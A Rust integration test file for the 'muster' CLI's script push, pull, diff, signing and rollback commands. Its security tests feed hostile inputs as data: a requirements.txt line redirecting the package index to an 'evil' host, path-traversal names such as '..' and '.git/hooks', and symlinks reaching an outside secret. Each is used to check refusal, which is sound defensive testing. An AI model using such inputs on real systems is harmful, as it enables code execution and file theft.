//! `muster scripts` and `muster run`.

use std::fs;

use muster_tests::{Fixture, JsonFields as _};
use serde_json::json;

use super::{agent_with_policy, create};

#[tokio::test]
async fn a_folder_is_pushed_compared_pulled_and_run_and_a_second_push_changes_nothing() {
    let fixture = Fixture::on_sqlite().await;
    let (_agent, _) = agent_with_policy(&fixture, json!({"allow": "library"})).await;
    let cli = fixture.cli().await;
    let folder = fixture.test_dir.path().join("tree");
    let report = folder.join("ops/report");
    fs::create_dir_all(&report).expect("created");
    let description = "file = \"report.sh\"\ninterpreter = \"sh\"\nfolder = \"ops\"\n\
                       tags = [\"read\"]\n\n[[parameters]]\nname = \"WHO\"\ndefault = \"me\"\n";
    fs::write(report.join("script.toml"), description).expect("written");
    fs::write(report.join("report.sh"), "echo \"report for $WHO\"\n").expect("written");
    let path = folder.to_str().expect("text");
    let compared = cli.run(&["scripts", "diff", path]).await.expect(1);
    assert!(compared.contains("create     report"), "{compared}");
    let dry = cli.run(&["scripts", "push", path, "--dry-run", "--json"]).await.json();
    assert_eq!(dry["items"][0]["action"], "create");
    let listed = cli.run(&["scripts"]).await.expect(0);
    assert!(listed.contains("no scripts"), "{listed}");
    cli.run(&["scripts", "push", path, "-m", "first"]).await.expect(0);
    let again = cli.run(&["scripts", "push", path, "--json"]).await.json();
    assert_eq!(again["items"][0]["action"], "unchanged");
    let listed = cli.run(&["scripts", "list", "--folder", "ops"]).await.expect(0);
    assert!(listed.contains("report"), "{listed}");

    let page = fixture.api.get("/api/agents").await.expect(200);
    let agent = page["items"][0].text("id").to_owned();
    let ran = cli.run(&["run", &agent, "library:report", "WHO=you"]).await.expect(0);
    assert!(ran.contains("report for you"), "{ran}");

    fs::write(report.join("report.sh"), "echo changed\n").expect("written");
    let compared = cli.run(&["scripts", "diff", path]).await.expect(1);
    assert!(compared.contains("- echo \"report for $WHO\"\n+ echo changed"), "{compared}");
    let pushed = cli.run(&["scripts", "push", path, "--json"]).await.json();
    assert_eq!(pushed["items"][0]["action"], "save");
    cli.run(&["scripts", "diff", path]).await.expect(0);
    let diff = cli.run(&["scripts", "diff", "report"]).await.expect(0);
    assert!(diff.contains("+echo changed"), "{diff}");
    let history = cli.run(&["scripts", "history", "report"]).await.expect(0);
    assert!(history.contains("first"), "{history}");
    let replaced = fixture.test_dir.path().join("new.sh");
    fs::write(&replaced, "echo edited\n").expect("written");
    let replaced = replaced.to_str().expect("text");
    cli.run(&["scripts", "edit", "report", "--file", replaced]).await.expect(0);
    let body = cli.run(&["scripts", "show", "report", "--body"]).await.expect(0);
    assert_eq!(body, "echo edited\n");
    // Into the working tree that it came from, where the person has it.
    cli.run(&["scripts", "pull", path]).await.expect(0);
    assert_eq!(fs::read_to_string(report.join("report.sh")).expect("there"), "echo edited\n");
    assert_eq!(fs::read_dir(folder.join("ops")).expect("listed").count(), 1);
    let again = cli.run(&["scripts", "push", path, "--json"]).await.json();
    assert_eq!(again["items"][0]["action"], "unchanged", "{again}");
    let evil = folder.join("evil");
    fs::create_dir_all(&evil).expect("created");
    fs::write(evil.join("script.toml"), "file = \"a.py\"\ninterpreter = \"python\"\n")
        .expect("written");
    fs::write(evil.join("a.py"), "pass\n").expect("written");
    fs::write(evil.join("requirements.txt"), "--index-url http://evil/\n").expect("written");
    for dry_run in [&["--dry-run"][..], &[]] {
        let refused = cli.run(&[&["scripts", "push", path][..], dry_run].concat()).await;
        assert_ne!(refused.code, Some(0), "{refused:?}");
        assert!(refused.stderr.contains("`evil` is not saved"), "{refused:?}");
        let shown = String::from_utf8_lossy(&refused.stdout).into_owned();
        assert!(
            shown.contains("refused    evil") && shown.contains("unchanged  report"),
            "{shown}"
        );
    }
    fs::remove_dir_all(evil).expect("removed");
    cli.run(&["scripts", "rollback", "report", "2"]).await.expect(0);

    let pulled = fixture.test_dir.path().join("pulled");
    let target = pulled.to_str().expect("text");
    cli.run(&["scripts", "pull", target]).await.expect(0);
    let text = fs::read_to_string(pulled.join("ops/report/report.sh")).expect("pulled");
    assert_eq!(text, "echo changed\n");
    let same = cli.run(&["scripts", "push", target, "--json"]).await.json();
    assert_eq!(same["items"][0]["action"], "unchanged");
    let pull_again = cli.run(&["scripts", "pull", target, "--json"]).await.json();
    assert_eq!(pull_again["items"][0]["action"], "unchanged");
    cli.run(&["scripts", "delete", "report"]).await.expect(0);
}

#[tokio::test]
async fn a_pushed_folder_is_signed_before_it_becomes_current() {
    let fixture = Fixture::on_sqlite().await;
    let cli = fixture.cli().await;
    let key = fixture.test_dir.path().join("key.pem");
    let key = key.to_str().expect("text");
    let made = cli.run(&["publisher", "keygen", key, "--json"]).await.json();
    let policy = json!({"allow": "library", "publishers": [made.text("public_key")]});
    let (_agent, agent) = agent_with_policy(&fixture, policy).await;
    let folder = fixture.test_dir.path().join("tree/say");
    fs::create_dir_all(&folder).expect("created");
    fs::write(folder.join("script.toml"), "file = \"say.sh\"\ninterpreter = \"sh\"\n")
        .expect("written");
    let path = folder.to_str().expect("text");
    for text in ["one", "two"] {
        fs::write(folder.join("say.sh"), format!("echo {text}\n")).expect("written");
        cli.run(&["scripts", "push", path, "--key", key]).await.expect(0);
        let ran = cli.run(&["run", &agent, "library:say"]).await.expect(0);
        assert!(ran.contains(text), "{ran}");
    }
    let again = cli.run(&["scripts", "push", path, "--key", key, "--json"]).await.json();
    assert_eq!(again["items"][0]["action"], "unchanged");
}

#[tokio::test]
async fn a_pull_writes_nothing_outside_its_folder_and_one_bad_script_stops_no_other() {
    let fixture = Fixture::on_sqlite().await;
    let cli = fixture.cli().await;
    for (name, folder) in
        [("..", ""), (".", ""), (".git", ""), ("x", "a/.git"), ("x", "../x"), ("x", ".ssh")]
    {
        let script = json!({"name": name, "folder": folder, "body": "x", "interpreter": "sh"});
        let refused = fixture.api.post("/api/scripts", script).await;
        refused.expect_problem(422, "invalid_field");
    }
    for name in ["up", "hooked", "linked", "script.toml", "good"] {
        create(&fixture, name, "echo pulled\n").await;
    }
    // What a hostile server, or one with a changed database, shows.
    fixture.server.query("UPDATE scripts SET name = '..' WHERE name = 'up'");
    fixture.server.query("UPDATE scripts SET folder = '.git/hooks' WHERE name = 'hooked'");
    let outer = fixture.test_dir.path().join("outer");
    let (tree, outside) = (outer.join("tree"), outer.join("outside"));
    fs::create_dir_all(tree.join(".git/hooks")).expect("created");
    fs::create_dir_all(&outside).expect("created");
    std::os::unix::fs::symlink(&outside, tree.join("linked")).expect("linked");
    let path = tree.to_str().expect("text");
    let pulled = cli.run(&["scripts", "pull", path]).await;
    let listed = pulled.expect(1);
    assert!(listed.contains("write      good"), "{listed}");
    assert_eq!(listed.matches("skipped").count(), 3, "{listed}");
    assert!(pulled.stderr.contains("tree/linked is a symbolic link"), "{}", pulled.stderr);
    let text = fs::read_to_string(tree.join("good/good.sh")).expect("pulled");
    assert_eq!(text, "echo pulled\n");
    for folder in [&outside, &tree.join(".git/hooks")] {
        assert_eq!(fs::read_dir(folder).expect("listed").count(), 0, "{}", folder.display());
    }
    assert!(!outer.join("script.toml").exists());

    // Nor does a push read through links.
    let good = tree.join("good");
    fs::write(outside.join("secret"), "a secret\n").expect("written");
    fs::remove_file(good.join("good.sh")).expect("removed");
    std::os::unix::fs::symlink(outside.join("secret"), good.join("good.sh")).expect("linked");
    let refused = cli.run(&["scripts", "push", path]).await;
    assert_eq!(refused.code, Some(2), "{refused:?}");
    assert!(refused.stderr.contains("good/good.sh is a symbolic link"), "{refused:?}");
}
